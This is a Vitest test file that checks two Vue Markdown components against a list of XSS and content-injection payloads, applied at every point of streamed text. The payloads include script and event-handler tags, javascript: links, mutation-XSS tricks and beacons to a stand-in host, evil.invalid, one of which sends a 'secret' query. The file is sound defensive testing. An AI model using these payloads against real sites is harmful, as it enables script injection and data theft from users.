import { describe, expect, it } from 'vitest'
import { createApp, h, nextTick, ref } from 'vue'
import FromDocs from '../docs/samples/MarkdownText.vue'
import FromPlayground from '../playground/src/components/MarkdownText.vue'

const evil = 'https://evil.invalid'
const js = 'javascript:window.harmed=1'
const img = '<img src=x onerror="window.harmed=1">'

/** What a model might write to run something, to load something, or to look like the page. */
const attacks = [
  img,
  `<script>window.harmed=1</script>`,
  `<svg onload="window.harmed=1"><script>window.harmed=1</script><image href="${evil}/a"/></svg>`,
  `<iframe src="${js}"></iframe><iframe srcdoc='${img}'></iframe>`,
  `<details open ontoggle="window.harmed=1">x</details>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`,
  `<noscript><p title="</noscript>${img}">`,
  `<select><iframe></select>${img}`,
  `<template>${img}</template>`,
  `<b\n${img}`,
  `[x](${js}) [x](JaVaScRiPt:a) [x](java\tscript:a) [x](&#106;avascript:a) [x](javascript&colon;a)`,
  `[x](<${js}>) [x]( ${js}) <${js}> [x](vbscript:a) [x](data:text/html,${img})`,
  `[x][1]\n\n[1]: ${js}`,
  `<a href="${js}" onclick="window.harmed=1">x</a><a id=location name=cookie href=x>y</a>`,
  `![x](${js}) ![x](${evil}/b?q=secret) ![x](${evil}/c "t\\" onerror=window.harmed=1")`,
  `<div style="background:url(${evil}/d)">x</div><p style="position:fixed;inset:0">over</p>`,
  `<style>*{background:url(${evil}/e)}</style><link rel=stylesheet href="${evil}/f">`,
  `<video src="${evil}/g" poster="${evil}/h" autoplay></video><audio src="${evil}/i" autoplay>`,
  `<input type="image" src="${evil}/j"><picture><source srcset="${evil}/k">${img}</picture>`,
  `<table background="${evil}/l"><tr><td background="${evil}/m">x</td></tr></table>`,
  `<object data="${evil}/n"></object><embed src="${evil}/o"><base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=${evil}/p">`,
  `<form action="${evil}/q"><input name=password autofocus onfocus="window.harmed=1"><button>In`,
  '```js" onmouseover="window.harmed=1\ncode\n```',
  `# ${img}\n\n| ${img} |\n|---|\n| <svg onload="window.harmed=1"> |\n\n- [ ] ${img}`,
]

const tags = new Set(
  'a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr input li ol p pre strong table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const attributes = new Set(
  'align aria-label checked class data-state disabled href rel role start tabindex target title type'.split(
    ' ',
  ),
)

/** What is in the page that Markdown alone would never make. */
const strange = (root: Element): string[] =>
  [...root.querySelectorAll('*')]
    .filter((one) => {
      const { href = '', type = 'checkbox' } = one as HTMLAnchorElement
      return (
        !tags.has(one.localName) ||
        one.getAttributeNames().some((name) => !attributes.has(name)) ||
        type !== (one.localName === 'input' ? 'checkbox' : type) ||
        !/^(https?:|mailto:|$)/.test(href)
      )
    })
    .map((one) => one.outerHTML)

function mount(recipe: string) {
  const text = ref('')
  const root = document.createElement('div')
  document.body.append(root)
  const app = createApp(() =>
    recipe === 'docs'
      ? h(FromDocs, { text: text.value })
      : h(FromPlayground, {
          part: { type: 'text', text: text.value, state: 'streaming', step: 0 },
        }),
  )
  app.mount(root)
  const end = () => {
    app.unmount()
    root.remove()
  }
  return { root, text, end }
}

describe.each(['docs', 'playground'])('the Markdown of the %s', { timeout: 60_000 }, (recipe) => {
  it('runs, loads and pretends nothing, at any place where the text is cut', async () => {
    const { root, text, end } = mount(recipe)
    performance.clearResourceTimings()
    for (const attack of attacks) {
      const whole = `**Hi**\n\n${attack}\n\nEnd`
      for (let at = 9; at <= whole.length; at++) {
        text.value = whole.slice(0, at)
        await nextTick()
        const found = strange(root)
        expect(found.length ? [text.value, found] : []).toEqual([])
      }
      for (const link of root.querySelectorAll('a')) link.dispatchEvent(new MouseEvent('mouseover'))
    }
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(window).not.toHaveProperty('harmed')
    const loaded = performance.getEntriesByType('resource').map(({ name }) => name)
    expect(loaded.filter((name) => name.startsWith(evil))).toEqual([])
    end()
  })

  it('draws the last block of a growing text, and leaves the others', async () => {
    const { root, text, end } = mount(recipe)
    text.value = '# One\n\nTwo **bold**.\n\n'
    await nextTick()
    const first = [...root.querySelectorAll('h1, h3, strong')]
    expect(first).toHaveLength(2)
    for (const word of 'And *so* on, with `code`.\n\n- a\n- b'.split(/(?<= )/)) {
      text.value += word
      await nextTick()
    }
    expect(root.querySelectorAll('li')).toHaveLength(2)
    expect([...root.querySelectorAll('h1, h3, strong')]).toEqual(first)
    for (const one of first) expect(one.isConnected).toBe(true)
    end()
  })
})
